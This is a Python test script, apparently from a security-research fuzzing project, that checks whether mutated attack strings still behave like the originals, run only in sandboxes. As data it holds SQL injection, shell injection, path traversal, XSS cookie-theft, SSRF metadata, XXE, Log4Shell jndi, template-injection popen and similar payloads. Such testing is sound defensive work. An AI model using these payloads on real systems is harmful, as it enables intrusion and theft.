"""Shows by machine that mutated attacks still do what the originals did.

    python3 trials/evasion/check.py [--seed 1] [--rounds 60]

Only texts that are made here are run, never those of a corpus: statements against a database in memory, harmless commands in
an empty directory, paths in a directory of their own, scripts that call a recorder.

Exit code: 0 nothing differs; 1 something does; 2 wrong use.
"""

import argparse
import base64
import collections
import gzip
import html
import html.parser
import ipaddress
import json
import ntpath
import os
import random
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import unicodedata
import urllib.parse
import xml.parsers.expat
import zlib
from email.parser import BytesParser
from email.policy import HTTP
from pathlib import Path

sys.dont_write_bytecode = True

import carrier_operators  # noqa: E402
from message import Message, Part, row_of  # noqa: E402
from mutate import OPERATORS, Child, victims_of  # noqa: E402
from operators import EVERY, MOVE, VALUE  # noqa: E402
from message import Impossible  # noqa: E402

SH, BASH, NODE = "/bin/sh", shutil.which("bash"), shutil.which("node")


class Tally:
    """Per operator: how often it was tried, and how it came out."""

    def __init__(self):
        self.same, self.differing, self.ways, self.examples = collections.Counter(), collections.Counter(), collections.defaultdict(set), {}

    def add(self, name, way, same, parent, child):
        (self.same if same else self.differing)[name] += 1
        self.ways[name].add(way)
        if not same:
            self.examples.setdefault(name, []).append((parent, child))


def named(prefix, kind):
    return [it for it in OPERATORS if it.stage < VALUE and kind in it.classes and it.name.startswith(prefix)]


# SQL: the same rows of an injectable query.

TABLE = """create table items (id integer, name text, price integer); insert into items values (1,'apple',3),(2,'pear',4),(3,'x',7),(4,'plum',3);
create table users (id integer, name text, secret text); insert into users values (1,'admin','s3cret'),(2,'guest','pw');"""
SHAPES = {"'": "select id, name, price from items where name = '{}' and price > 0", '"': 'select id, name, price from items where name = "{}" and price > 0',
          "'(": "select id, name, price from items where (name = '{}') and price > 0", "1": "select id, name, price from items where id = {} and price > 0",
          "1(": "select id, name, price from items where (id = {}) and price > 0"}


def sql_texts(chance):
    """Injections for each shape, made here."""
    n, m, word = chance.randint(1, 9999), chance.randint(1, 9), chance.choice(("abc", "qzx", "kw"))
    true = chance.choice((f"{n}={n}", f"'{word}'='{word}'", f"{n} = {n}", f"({n}={n})", f"{n}<{n + 1}"))
    false = chance.choice((f"{n}={n + 1}", f"'{word}'='x{word}'", f"{n} = {n + 7}", f"{n}>{n + m}"))
    truth = chance.choice((true, true, false))
    condition = chance.choice((truth, truth, f"(select count(*) from users)>{m}", f"length('{word}')={m}", f"substr((select secret from users where name='admin'),1,1)='s'",
                               f"case when {truth} then {n}={n} else 1=2 end", f"'{word}' like '{word[0]}%'", f"{m} between 1 and {m + 1}", f"lower('{word}')=lower('{word}')", f"upper('{word}') = 'ABC'"))
    union = chance.choice((f"union select {n},'{word}',{m}", f"union all select id,name,secret from users", f"union select id,secret,name from users where name='admin'", f"union select null,null,{n}",
                           f"union select 1,(select secret from users where id=2),'{word}'", f"union all select {n},{n},{n}"))
    tail = chance.choice(("--", "-- ", "-- -", "--x"))
    sign = chance.choice(("or", "and", "OR", "and not"))
    for shape in SHAPES:
        if shape == "1":
            yield shape, chance.choice((f"{m} {sign} {condition}", f"-{n} {sign} {condition} {tail}", f"-{n} {union}{tail}", f"{m} {union} {tail}", f"{m} or {true} order by 1 {tail}", f"{m} and {condition} limit 2 {tail}"))
        elif shape == "1(":
            yield shape, chance.choice((f"{m}) {sign} {condition} {tail}", f"{m}) {sign} ({n}={n}", f"-{n}) {union}{tail}", f"{m}) {sign} (({condition}) and {n}={n}"))
        else:
            quote, close = shape[0], ")" if "(" in shape else ""
            opened = "(" if close else ""
            open_end = f"{sign} {opened}{quote}{word}{quote}={quote}{word}"
            yield shape, chance.choice((f"x{quote}{close} {open_end}", f"{quote}{close} {sign} {condition} {tail}", f"{word}{quote}{close} {union} {tail}", f"{n}{quote}{close} {sign} {condition} and {opened}{quote}a{quote}={quote}a",
                                        f"admin{quote}{close}{tail}", f"{quote}{close} or {true}{tail}"))


def sql_rows(database, shape, text):
    try:
        return database.execute(SHAPES[shape].format(text)).fetchall()
    except sqlite3.Error as error:
        return f"error: {error}"


# What a rule makes of databases that are not here: the text as sqlite would say it.
def spoken(text, victim):
    """Translates what only MySQL, SQL Server, PostgreSQL or Oracle read into what sqlite reads."""
    text = re.sub(r"/\*!\d*(.*?)\*/", r" \1 ", text)
    text = re.sub(r"\bchar\(([^()]*?) using utf8mb4\)", lambda it: "'" + "".join(chr(int(c, 0)) for c in it[1].split(",")) + "'", text)
    text = re.sub(r"\((?:chr|char)\(\d+\)(?:(?:\|\||\+)(?:chr|char)\(\d+\))*\)", lambda it: "'" + "".join(chr(int(c)) for c in re.findall(r"\d+", it[0])) + "'", text)
    text = re.sub(r"\bconcat\(('[^']*'|\"[^\"]*\"),('[^']*'|\"[^\"]*\")\)", r"(\1||\2)", text)
    text = re.sub(r"(?:_utf8mb4 )?\b0x((?:[0-9a-f]{2})+)\b|\bX'([0-9a-f]+)'", lambda it: "'" + bytes.fromhex(it[1] or it[2]).decode() + "'", text) if victim == "hex" else text
    text = re.sub(r"'\+'", "'||'", text)
    text = re.sub(r"(?<=['\"])[ \n](?=['\"])", "||", text) if victim == "adjacent" else text
    text = re.sub(r"\bN(?=')", "", text)
    if victim == "symbols":
        text = text.replace("&&", " and ").replace("||", " or ")
    text = re.sub(r"#([^\n]*)", r"-- \1", text)
    text = re.sub(r"(?i)\b(?:mid|substring)\(", "substr(", text)
    text = re.sub(r"(?i)\b(?:octet_length|character_length)\(", "length(", text)
    text = re.sub(r"(?i)\bucase\(", "upper(", text)
    text = re.sub(r"(?i)\blcase\(", "lower(", text)
    text = re.sub(r"(?i)union distinct", "union", text)
    text = re.sub(r"(?<=union)\s+distinct\b", "", text)
    text = text.replace(";\0", "--")
    return re.sub(r"[\v\x01\x02\x08\x0e\x1b\x1f]", " ", text)


HINT = {"sql-hex-string": "hex", "sql-adjacent-strings": "adjacent", "sql-symbols-for-words": "symbols"}


def check_sql(tally, chance, rounds):
    database = sqlite3.connect(":memory:")
    database.executescript(TABLE)
    usable = named("sql-", "sqli")
    for _ in range(rounds * 6):
        for shape, text in sql_texts(chance):
            before = sql_rows(database, shape, text)
            if isinstance(before, str):
                continue
            for operator in usable:
                it = Child("sqli", Message("GET", "/", (("q", ""),), (), "none", None, ("query", 0), text))
                if not it.take(operator, chance):
                    continue
                child, way = it.message.value, "sqlite"
                if "sqlite" not in operator.victims:
                    child, way = spoken(child, HINT.get(operator.name, "")), "rule, then sqlite"
                rows = sql_rows(database, shape, child)
                # All of a union and each of its rows once are the same to whom it tells something.
                same = sorted(map(repr, set(before))) == sorted(map(repr, set(rows))) if operator.name in ("sql-union-all",) and not isinstance(rows, str) else before == rows
                if not same and not isinstance(rows, str) and sorted(map(repr, before)) == sorted(map(repr, rows)):
                    same = True
                tally.add(operator.name, way, same, f"[{shape}] {text}", f"{it.message.value} -> {rows!r:.90}")
            it, used = Child("sqli", Message("GET", "/", (("q", ""),), (), "none", None, ("query", 0), text)), []
            for operator in chance.sample(usable, len(usable)):
                if "sqlite" in operator.victims and operator.name != "sql-union-all" and len(used) < 3 and it.take(operator, chance):
                    used.append(operator.name)
            if len(used) == 3:
                rows = sql_rows(database, shape, it.message.value)
                same = before == rows or (not isinstance(rows, str) and sorted(map(repr, before)) == sorted(map(repr, rows)))
                tally.add("three of sql", "sqlite", same, f"[{shape}] {text}", f"{used} {it.message.value} -> {rows!r:.90}")


# Shell: the same output, in an empty directory.

def shell_output(shell, script, folder):
    done = subprocess.run([shell, "-c", script], cwd=folder, capture_output=True, timeout=10, stdin=subprocess.DEVNULL,
                          env={"PATH": "/usr/bin:/bin", "HOME": "/", "LC_ALL": "C"})
    return done.stdout


def shell_texts(chance):
    mark, other = f"MARK{chance.randint(100, 999)}", chance.choice(("one", "two"))
    command = chance.choice((f"echo {mark}", f"echo {mark} {other}", "id", "whoami", "pwd", "uname", "cat sub/notes.txt", "cat ./sub/notes.txt", "head sub/notes.txt", "/bin/echo " + mark, "/usr/bin/id",
                             "ls sub", "ls -a sub/deep", "true", "sort sub/notes.txt", "wc sub/notes.txt", "id -u", "/bin/cat sub/notes.txt", "date -u +%Y"))
    yield chance.choice((f"; {command}", f";{command}", f"x;{command}", f"| {command}", f"|{command}", f"&& {command}", f"|| {command}", f"`{command}`", f"$({command})", f"x; {command};", f"; {command} #", f"\n{command}\n",
                         f"; {command} ; echo {other}", f"; {command} | sort", f"'; {command}; '"))


def check_shell(tally, chance, rounds):
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "sub/deep").mkdir(parents=True)
        (Path(folder) / "sub/notes.txt").write_text("second\nfirst\n")
        (Path(folder) / "sub/deep/x").write_text("")
        for operator in named("shell-", "cmdi"):
            done, tries = 0, 0
            while done < max(12, rounds // 3) and tries < 400:
                tries += 1
                for text in shell_texts(chance):
                    it = Child("cmdi", Message("GET", "/", (("q", ""),), (), "none", None, ("query", 0), text))
                    if not it.take(operator, chance):
                        continue
                    # The victim's command, and its quotes where the text closes them.
                    scripts = [f"echo 'host {it_text}'" if text.startswith("'") else f"echo host {it_text}" for it_text in (text, it.message.value)]
                    for shell in sorted(operator.victims):
                        program = SH if shell == "sh" else BASH
                        if program is None:
                            continue
                        done += 1
                        tally.add(operator.name, shell, shell_output(program, scripts[0], folder) == shell_output(program, scripts[1], folder), text, it.message.value)


def undone_for_windows(text):
    return re.sub(r'\^|""', "", text).lower()


def check_shell_compositions(tally, chance, rounds):
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "sub/deep").mkdir(parents=True)
        (Path(folder) / "sub/notes.txt").write_text("second\nfirst\n")
        usable = named("shell-", "cmdi")
        for _ in range(rounds * 10):
            for text in shell_texts(chance):
                it, used = Child("cmdi", Message("GET", "/", (("q", ""),), (), "none", None, ("query", 0), text)), []
                for operator in chance.sample(usable, len(usable)):
                    if len(used) < 3 and it.take(operator, chance):
                        used.append(operator.name)
                program = SH if "sh" in it.victims else BASH
                if len(used) < 2 or program is None:
                    continue
                scripts = [f"echo 'host {one}'" if text.startswith("'") else f"echo host {one}" for one in (text, it.message.value)]
                tally.add("two or three of shell", Path(program).name, shell_output(program, scripts[0], folder) == shell_output(program, scripts[1], folder), text, f"{used} {it.message.value}")


def check_windows_commands(tally, chance, rounds):
    for operator in named("cmd-", "cmdi"):
        for _ in range(rounds):
            text = f"{chance.choice(('&', '&&', '|', '| '))} {chance.choice(('dir', 'type', 'net', 'ipconfig'))} {chance.choice(('config.txt', 'user', 'view', 'note.txt'))}"
            text = text if any(it in text for it in ("dir", "type", "ipconfig", "net ")) else f"& dir {text}"
            child = operator.apply(text, chance)
            if child and child != text:
                plain = re.sub(r"(?<=dir|ype)[,=\t]+", " ", undone_for_windows(child))
                tally.add(operator.name, "rule", re.sub(r"\s+", " ", plain) == re.sub(r"\s+", " ", text), text, child)


# Paths: the same file, or the same name.

def check_paths(tally, chance, rounds):
    with tempfile.TemporaryDirectory() as folder:
        root = Path(os.path.realpath(folder))
        base = root / "srv/a/b/c"
        base.mkdir(parents=True)
        for name in ("etc", "var", "tmp", "usr"):
            (root / name / "app").mkdir(parents=True)
        for operator in named("path-", "path-traversal"):
            for _ in range(rounds):
                name = chance.choice(("etc/passwd", "etc/app/conf", "var/app/log.txt", "usr/app/x.ini"))
                text = chance.choice(("../../../../../../../../../", "/../../../../../../../../", "/", "../../../../../../")) + name
                if operator.victims == frozenset(("windows",)):
                    text = chance.choice(("../../../../", "c:/", "..\\..\\..\\")) + chance.choice(("windows/win.ini", "windows\\system.ini"))
                child = operator.apply(text, chance)
                if child is None or child == text:
                    continue
                tally.add(operator.name, *same_path(operator.name, text, child), text, child)


def joined_path(text):
    """What the victim opens: its folder and the text, or the text alone if that is absolute."""
    return os.path.realpath(os.path.join("/usr/share/doc", text)), os.path.realpath("/usr/share/doc/" + text)


def same_path(name, text, child):
    if name == "path-doubled-up":
        return "rule", child.replace("../", "") == text
    if name == "path-semicolon":
        return "rule", re.sub(r";[^/]*", "", child) == text
    if name == "path-zero-tail":
        return "rule", child.partition("\0")[0] == text
    if name == "path-file-address":
        parsed = urllib.parse.urlsplit(child)
        return "urllib", parsed.scheme == "file" and parsed.netloc in ("", "localhost") and parsed.path == text
    if name == "path-php-wrapper":
        return "rule", child.lower().startswith("php://filter/") and child.partition("resource=")[2] == text
    if name in ("path-backslashes", "path-windows-case"):
        return "ntpath", ntpath.normcase(ntpath.normpath(child)) == ntpath.normcase(ntpath.normpath(text))
    if name == "path-windows-tail":
        return "rule", re.sub(r"(?:::\$DATA|[. ]+)\Z", "", child) == text
    # Absolute where the victim opens the text itself, joined where it does that; the operator says which it needs.
    if name == "path-absolute" or (text.startswith("/") and not text.startswith("/..")):
        return "realpath", joined_path(child)[0] == joined_path(text)[0]
    return "realpath", joined_path(text) == joined_path(child)


# HTML and JavaScript.

class Reader(html.parser.HTMLParser):
    """What a page runs: handlers with what they hold, addresses, scripts."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.runs, self.script = [], None

    def handle_starttag(self, name, attributes):
        for key, value in attributes:
            if key.startswith("on") or key in ("href", "src", "action", "formaction", "data"):
                self.runs.append((key, value))
        self.script = "" if name == "script" else self.script

    def handle_data(self, data):
        if self.script is not None:
            self.script += data

    def handle_endtag(self, name):
        if name == "script" and self.script is not None:
            self.runs.append(("script", self.script))
            self.script = None


def runs_of(text):
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader.runs


def scripts_of(text):
    """Scripts alone: what runs by itself, without the name of the event."""
    return [value for key, value in runs_of(text) if key.startswith("on") or key == "script"]


def address_of(text):
    """As the URL standard reads it: no control characters in front, no tabs and new lines anywhere."""
    return re.sub(r"[\t\n\r]", "", text.lstrip("".join(map(chr, range(33)))))


def markup_texts(chance):
    n = chance.randint(1, 9999)
    call = chance.choice((f"alert({n})", "alert('XSS')", "confirm(1)", "prompt(document.cookie)", "alert(document.domain)", f'alert("a{n}")', "alert()"))
    quote = "'" if '"' in call else '"'
    bare = call if not re.search(r"['\"]", call) else f"alert({n})"
    yield "markup", chance.choice((f"<script>{call}</script>", f"<img src=x onerror={bare}>", f"<img src={quote}x{quote} onerror={quote}{call}{quote}>", f"\"><svg onload={bare}>", f"<svg/onload={bare}>", f"<body onload={quote}{call}{quote}>",
                                   f"<a href={quote}javascript:{call}{quote}>x</a>", f"<iframe src=javascript:{bare}></iframe>", f"<details open ontoggle={bare}>", f"<input autofocus onfocus={quote}{call}{quote} class=a>",
                                   f"<video src=x onerror={bare}></video>", f"'><script>{call};</script>", f"<form action={quote}javascript:{call}{quote}><input type=submit></form>"))
    yield "script", chance.choice((f"{call}", f"javascript:{call}", f"x=1;{call};", f"1;{call}"))


def check_markup(tally, chance, rounds):
    waiting = []
    for _ in range(rounds * 5):
        for kind, text in markup_texts(chance):
            for operator in named("html-", "xss") + named("js-", "xss"):
                child = operator.apply(text, chance)
                if child is None or child == text:
                    continue
                if operator.name.startswith("html-"):
                    if operator.name in ("html-other-event", "html-handler-for-script"):
                        same = [it.strip("; ") for it in scripts_of(text)] == [it.strip("; ") for it in scripts_of(child)]
                    else:
                        same = set(runs_of(text)) == set(runs_of(child))
                    tally.add(operator.name, "html.parser", same, text, child)
                elif operator.name in ("js-scheme-case", "js-scheme-blanks", "js-scheme-front", "js-scheme-entities"):
                    one, other = ([address_of(value) for key, value in runs_of(it) if value and key in ("href", "src", "action")] or [address_of(it)] for it in (text, child))
                    tally.add(operator.name, "html.parser and rule", [it.lower() for it in one] == [it.lower() for it in other], text, child)
                else:
                    waiting.append((operator.name, text, child))
    usable = [it for it in named("html-", "xss") + named("js-", "xss") if it.name not in ("js-scheme-comment",)]
    for _ in range(rounds * 5):
        for kind, text in markup_texts(chance):
            it, used = Child("xss", Message("GET", "/", (("q", ""),), (), "none", None, ("query", 0), text)), []
            for operator in chance.sample(usable, len(usable)):
                if len(used) < 3 and it.take(operator, chance):
                    used.append(operator.name)
            if len(used) > 1:
                waiting.append(("two or three of markup", text, it.message.value))
    waiting = chance.sample(waiting, min(len(waiting), rounds * 60))
    if NODE is None:
        print("node is not here: scripts are not run")
        return
    programs = [[script_text(text), script_text(child)] for _, text, child in waiting]
    done = subprocess.run([NODE, "-e", RECORDER], input=json.dumps(programs), capture_output=True, text=True, timeout=120, check=True)
    for (name, text, child), (one, other) in zip(waiting, json.loads(done.stdout)):
        tally.add(name, "node", one == other and bool(one) and not str(one).startswith("error"), text, f"{child}  {one} {other}")


def script_text(text):
    """The script that a page would run: of a handler, an element or an address."""
    runs = [(key, value) for key, value in runs_of(text) if value and (key.startswith("on") or key == "script" or address_of(value).lower().startswith("javascript:"))] if "<" in text else [("", text)]
    script = runs[0][1] if runs else ""
    return urllib.parse.unquote(re.sub(r"(?i)\A\s*javascript:", "", address_of(script))) if address_of(script).lower().startswith("javascript:") else script


RECORDER = """
const vm = require('vm'), programs = JSON.parse(require('fs').readFileSync(0, 'utf8'));
const run = text => { const seen = [];
  const page = {document: {cookie: 'c=1', domain: 'd.example'}, atob: it => Buffer.from(it, 'base64').toString('latin1')};
  for (const name of ['alert', 'prompt', 'confirm']) page[name] = it => { seen.push([name, it === undefined ? '' : String(it)]); };
  for (const name of ['top', 'window', 'self', 'parent', 'frames']) page[name] = page;
  try { vm.runInNewContext(text, page, {timeout: 500}); } catch (problem) { return 'error ' + problem.message; }
  return seen; };
process.stdout.write(JSON.stringify(programs.map(pair => pair.map(run))));
"""


# Addresses.

def check_addresses(tally, chance, rounds):
    for operator in named("address-", "ssrf") + named("redirect-", "open-redirect"):
        for _ in range(rounds):
            host = chance.choice(("127.0.0.1", "169.254.169.254", "localhost", "10.1.2.3", "metadata.google.internal"))
            text = f"{chance.choice(('http', 'https', 'gopher'))}://{host}{chance.choice(('', ':8080'))}{chance.choice(('', '/', '/latest/meta-data/', '/a/b'))}"
            if operator.name.startswith("redirect-"):
                text = chance.choice(("//", "https://", "http://")) + "evil.example/path"
            child = operator.apply(text, chance)
            if child is not None and child != text:
                tally.add(operator.name, *same_address(operator.name, text, child), text, child)


def number_of(host):
    """The address that a resolver makes of it."""
    host = unicodedata.normalize("NFKC", host).replace("。", ".").lower().rstrip(".")
    if host == "localhost":
        return 0x7f000001
    try:
        return int.from_bytes(socket.inet_aton(host), "big")
    except OSError:
        pass
    try:
        six = ipaddress.IPv6Address(host.strip("[]"))
        return int(six.ipv4_mapped) if six.ipv4_mapped else int(six)
    except ValueError:
        return host


def same_address(name, text, child):
    if name.startswith("redirect-"):
        plain = re.sub(r"[\t\n\r]", "", child.lstrip("".join(map(chr, range(33))))).replace("\\", "/")
        return "rule", re.sub(r"\A(https?:)?/+", lambda it: (it[1] or "") + "//", plain) == text
    one = urllib.parse.urlsplit(text)
    if name == "address-unicode":
        child = unicodedata.normalize("NFKC", child).replace("。", ".")
    other = urllib.parse.urlsplit(child)
    known = {"http": 80, "https": 443}
    host = other.hostname
    if name == "address-public-name":
        found = re.search(r"(?:^|\.)(?:(\d+[.-]\d+[.-]\d+[.-]\d+)|([0-9a-f]{8}))\.(?:nip|sslip)\.io$", host)
        host = found[1].replace("-", ".") if found and found[1] else str(ipaddress.IPv4Address(int(found[2], 16))) if found else host
    path = os.path.normpath(other.path) if name == "address-dot-folders" else other.path
    wanted = os.path.normpath(one.path) if name == "address-dot-folders" else one.path
    return "urllib, inet_aton", (one.scheme, number_of(one.hostname), one.port or known.get(one.scheme), wanted) == (other.scheme.lower(), number_of(host), other.port or known.get(other.scheme.lower()), path)


# Documents, look-ups, filters, templates.

class Document:
    """What a parser of XML meets that reaches outside, and the text."""

    def __init__(self, text):
        self.met, parser = [], xml.parsers.expat.ParserCreate()
        parser.EntityDeclHandler = lambda name, parameter, value, base, system, public, notation: self.met.append((bool(parameter), value, system))
        parser.ExternalEntityRefHandler = lambda context, base, system, public: self.met.append(("asks", system)) or 1
        parser.StartElementHandler = lambda name, attributes: self.met.append(("element", name))
        parser.CharacterDataHandler = lambda data: self.met.append(data)
        parser.SetParamEntityParsing(xml.parsers.expat.XML_PARAM_ENTITY_PARSING_ALWAYS)
        parser.Parse(text, True)


def document(text):
    try:
        return Document(text).met
    except xml.parsers.expat.ExpatError as error:
        return f"error: {error}"


def looked_up(text):
    """Resolves the nested look-ups of a logger, innermost first."""
    for _ in range(200):
        new = re.sub(r"\$\{(lower|upper|date|env|sys|):([^${}]*)\}", resolved, text, count=1, flags=re.IGNORECASE)
        if new == text:
            return text
        text = new
    return text


def resolved(it):
    name, value = it[1].lower(), it[2]
    if name in ("lower", "upper"):
        return getattr(value, name)()
    if name == "date":
        return value.strip("'")
    return value.partition(":-")[2] if ":-" in value else value.partition("-")[2]


def check_rest(tally, chance, rounds):
    documents = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><r>&xxe;</r>', '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY x SYSTEM "http://127.0.0.1/a">]><foo>a &x; b</foo>',
                 '<!DOCTYPE r [<!ENTITY foo "aaaa">]><r>&foo;</r>', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://a.example/e.dtd">%p;]><r/>', '<!DOCTYPE r SYSTEM "http://a.example/e.dtd"><r>x</r>')
    lookups = ("${jndi:ldap://a.example/x}", "x ${jndi:rmi://10.0.0.1:1099/o} y", "${jndi:dns://a.example}")
    for _ in range(rounds):
        for operator in named("xxe-", "xxe"):
            text = chance.choice(documents)
            child = operator.apply(text, chance)
            if child and child != text:
                tally.add(operator.name, "expat", document(text) == document(child), text, child)
        for operator in named("log-", "log4shell"):
            text = chance.choice(lookups)
            child = operator.apply(text, chance)
            if child and child != text:
                tally.add(operator.name, "rule", looked_up(child).lower() == text, text, child)


def plain_template(text):
    """A template with every other spelling of an attribute, a string or a product written one way."""
    text = re.sub(r"\{#.*?#\}", "", text)
    text = re.sub(r"\{%\s*print\((.*)\)%\}", r"{{\1}}", text)
    text = re.sub(r"\{\{-?\s*|\s*-?\}\}", lambda it: "{{" if "{" in it[0] else "}}", text)
    text = re.sub(r"\\x5f|\\u005f|\\137", "_", text)
    text = re.sub(r"(?<=[\w'\"])(['\"])\s*[~+ ]\s*\1(?=\w)|(?<=\w)(['\"])\s*[~+ ]\s*\2(?=\w)", "", text)
    text = re.sub(r"\[(['\"])(\w+)\1(?:\[::-1\]|\|reverse)\]", lambda it: f"[{it[1]}{it[2][::-1]}{it[1]}]", text)
    text = re.sub(r"\(([^()|]+|\(\))\|attr\('(\w+)'\)\)", r"\1.\2", text)
    text = re.sub(r"\[(['\"])(__\w+__)\1\]", r".\2", text).replace('"', "'")
    text = re.sub(r"\s+", "", text)
    for _ in range(3):
        text = re.sub(r"\((\d+)(?:\+0)?\)", r"\1", text)
        text = re.sub(r"\((\d+\*\d+)\)", r"\1", text)
        text = re.sub(r"\{\{\((.*)\)\}\}\Z", lambda it: "{{" + it[1] + "}}" if balanced(it[1]) else it[0], text)
        text = re.sub(r"\$\{\((.*)\)\}\Z", lambda it: "${" + it[1] + "}" if balanced(it[1]) else it[0], text)
    return re.sub(r"(\d+)\*(\d+)", lambda it: str(int(it[1]) * int(it[2])), text)


def balanced(text):
    depth = 0
    for c in text:
        depth += (c == "(") - (c == ")")
        if depth < 0:
            return False
    return depth == 0


OIDS = {"0.9.2342.19200300.100.1.1": "uid", "2.5.4.3": "cn", "2.5.4.4": "sn", "0.9.2342.19200300.100.1.3": "mail", "2.5.4.0": "objectclass", "2.5.4.35": "userpassword"}


def plain_filter(text):
    text = re.sub(r"\\([0-9a-f]{2})", lambda it: chr(int(it[1], 16)), text)
    text = re.sub(r"(?<=\()([\w.]+)(?==)", lambda it: OIDS.get(it[1], it[1].lower()), text)
    text = re.sub(r"\(!\(!(\([^()]*\))\)\)", r"\1", text)
    return re.sub(r"\([&|](\([^()]*\))\)", r"\1", text)


def plain_query(text):
    """Tokens of a GraphQL document: commas, blanks and comments mean nothing."""
    query = json.loads(text)["query"]
    parts = re.findall(r'"(?:[^"\\]|\\.)*"|#[^\n]*|\w+|\.\.\.|[^\s,]', query)
    parts = [it for it in parts if not it.startswith("#")]
    return parts[2:] if parts[0] == "query" and parts[2:3] == ["{"] else parts


def meets(condition, value):
    """Whether a document's value meets a condition of MongoDB, for the few signs that are used here."""
    orders = {"$ne": lambda it: value != it, "$eq": lambda it: value == it, "$gt": lambda it: type(value) is type(it) and value > it, "$lte": lambda it: type(value) is type(it) and value <= it,
              "$nin": lambda it: value not in it, "$not": lambda it: not meets(it, value), "$regex": lambda it: isinstance(value, str) and bool(re.search(it, value))}
    return all(orders[name](it) for name, it in condition.items())


def plain_object(text):
    text = re.sub(r"\\u([0-9a-f]{4})", lambda it: chr(int(it[1], 16)), text)
    text = re.sub(r"\s+|/\*.*?\*/", "", text)
    text = re.sub(r"\['(\w+)'\]|\[\"(\w+)\"\]|\[`(\w+)`\]", lambda it: "." + (it[1] or it[2] or it[3]), text.replace("'__pro'+'to__'", "'__proto__'"))
    return text


TEMPLATE_TEXTS = ("{{7*7}}", "{{ 7 * 7 }}", "{{''.__class__.__mro__[2].__subclasses__()}}", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", "{{self.__init__.__globals__}}", "${7*7}", "{{ [].__class__.__base__ }}",
                  '{{request["__class__"]}}', "{{ ().__class__ }}", "${'abc'.getClass()}")
FILTER_TEXTS = ("*)(uid=*))(|(uid=*", "admin)(cn=ad*)", "(&(sn=administrator)(mail=a*))", "x)(objectClass=*)(uid=a")
QUERY_TEXTS = ('{"query": "{ __schema { types { name } } }"}', '{"query": "query { user(id: 1, name: \\"a b\\") { id, name } }"}', '{"query": "{__schema{queryType{name} types{name}}}"}')
OBJECT_TEXTS = {"nosql-blanks": ('{"a": {"$ne": 1}}', "{ $gt: '' }", '{"u":{"$gt":"x y"}}'), "nosql-escaped-key": ('{"a": {"$ne": 1}}', '{"u":{"$gt":""}}'), "nosql-script-blanks": ("' || 1==1 || 'a'=='b", "' && this.password.match(/.*/)"),
                "nosql-member": ("' && this.password.match(/.*/)", "; return this.a == this.b"), "prototype-escaped-key": ('{"__proto__": {"a": 1}}', "x['__proto__']"), "prototype-member": ("a.__proto__.b=1", "Object.__proto__.x=2")}


def check_words(tally, chance, rounds):
    for operator in OPERATORS:
        for _ in range(rounds):
            if operator.name.startswith("template-"):
                text, plain, way = chance.choice(TEMPLATE_TEXTS), plain_template, "rule"
            elif operator.name.startswith("ldap-"):
                text, plain, way = chance.choice(FILTER_TEXTS), plain_filter, "rule"
            elif operator.name.startswith("graphql-"):
                text, plain, way = chance.choice(QUERY_TEXTS), plain_query, "tokens"
            elif operator.name in OBJECT_TEXTS:
                text, plain, way = chance.choice(OBJECT_TEXTS[operator.name]), plain_object, "rule"
            elif operator.name == "nosql-other-operator":
                text, way = json.dumps({"p": chance.choice(({"$ne": ""}, {"$ne": 1}, {"$gt": ""}, {"$ne": None}))}), "evaluation"
                plain = lambda it: [meets(json.loads(it)["p"], value) for value in ("", "a", "zz")]  # noqa: E731
            elif operator.name in ("latex-blanks", "latex-hex-letters"):
                text, way = chance.choice(("\\input{/etc/passwd}", "\\immediate\\write18{id}", "\\include{a}")), "rule"
                plain = lambda it: re.sub(r"%.*\n|\s", "", re.sub(r"\^\^([0-9a-f]{2})", lambda c: chr(int(c[1], 16)), it))  # noqa: E731
            elif operator.name in ("crlf-line-feed", "crlf-header-case"):
                text, way = chance.choice(("x%0d%0aSet-Cookie: a=b", "x\r\nLocation: /")), "rule"
                plain = lambda it: it.lower().replace("%0d", "").replace("\r", "")  # noqa: E731
            else:
                break
            child = operator.apply(text, chance)
            if child and child != text:
                tally.add(operator.name, way, plain(text) == plain(child), text, child)


# Carriers: an independent reader finds the same value.

VALUES = ("1' or 1=1-- -", "<img src=x onerror=alert(1)>", "../../../../etc/passwd", "{{7*7}}", "; cat /etc/passwd", "a\"b\\c&d=e+f%41;g", "é€ ' <", "${jndi:ldap://a.example/x}", "1 union select 1,2 --")


def messages(value):
    headers = (("Host", "api.shop.example"),)
    yield Message("GET", "/a", (("lang", "en"), ("q", "")), headers, "none", None, ("query", 1), value)
    yield Message("GET", "/a/", (), headers, "none", None, ("path",), value)
    yield Message("POST", "/a", (), headers, "form", (("list", "weekly"), ("c", "")), ("form", 1), value)
    yield Message("POST", "/a", (), headers, "json", {"id": 7, "text": ""}, ("json", "text"), value)
    yield Message("POST", "/a", (), headers, "json", {"a": [{"b": ""}]}, ("json", "a", 0, "b"), value)
    yield Message("POST", "/a", (), headers, "multipart", (Part("id", "17"), Part("file", "", "photo.txt", "text/plain")), ("multipart", 1), value)
    yield Message("POST", "/a", (), headers, "xml", ('<?xml version="1.0" encoding="UTF-8"?><r><t>', "</t></r>"), ("xml",), value)
    yield Message("GET", "/a", (), headers, "none", None, ("cookie", "prefs"), value, (("sid", "1"), ("prefs", "")))
    yield Message("GET", "/a", (), headers, "none", None, ("header", "X-Search"), value)


def percent(text):
    """Percent signs, `%u` and overlong forms undone by hand."""
    text = re.sub(r"%u([0-9a-fA-F]{4})", lambda it: urllib.parse.quote(chr(int(it[1], 16)), errors="surrogatepass"), text)
    raw = urllib.parse.unquote_to_bytes(text)
    raw = re.sub(rb"\xe0([\x80-\x81])([\x80-\xbf])", lambda it: bytes([(it[1][0] & 1) << 6 | it[2][0] & 0x3f]), raw)
    return re.sub(rb"([\xc0\xc1])([\x80-\xbf])", lambda it: bytes([(it[1][0] & 1) << 6 | it[2][0] & 0x3f]), raw).decode("utf-8", "surrogateescape")


def texts_of(written):
    """All texts that a reader of the request finds."""
    method, target, headers, body = written
    path, _, query = target.partition("?")
    found = [percent(path.rpartition("/")[2])] + [percent(it.partition("=")[2].replace("+", " ")) for it in query.split("&")]
    fields = {name.lower(): value for name, value in headers}
